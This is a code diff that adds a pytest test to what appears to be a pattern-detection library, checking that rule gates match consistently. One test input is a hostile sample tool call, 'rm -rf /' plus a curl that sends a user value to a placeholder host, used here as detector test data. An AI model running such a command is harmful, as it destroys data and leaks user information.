@@ -243,6 +243,20 @@ def test_the_heads_of_a_texts_words_skip_only_starts_no_match_opens_at(index) ->
     assert start_key("no") == "no" and start_key("has no") == "ha" and start_key("a ") == ""
 
 
+@pytest.mark.parametrize("index", [patterns.INDEX, framing.INDEX, framing.ACTION_INDEX])
+def test_a_candidates_gate_skips_only_what_its_index_has_tested(index) -> None:
+    # RuleIndex.matches asks a candidate's gate only what candidates() did not (session 16).
+    texts = [*NEAR_MISSES, "<tool_call> rm -rf / and curl http://x/?q={{user}}", "é " + TEXTS[0]]
+    for text in texts:
+        words = word_set(text)
+        tokens, line, _ = text_reading(text, words)
+        for i in index.candidates(text, words, tokens, line):
+            r = index.rules[i]
+            assert r._gate(words, text, {}, tokens, line, opened=True) == r._gate(
+                words, text, {}, tokens, line
+            ), (r.regex.pattern, text)
+
+
 def test_the_words_of_a_text_say_whether_a_needle_is_in_it() -> None:
     # needle_in reads most needles from the text's words (session 13): never another answer
     # than a search of the text.
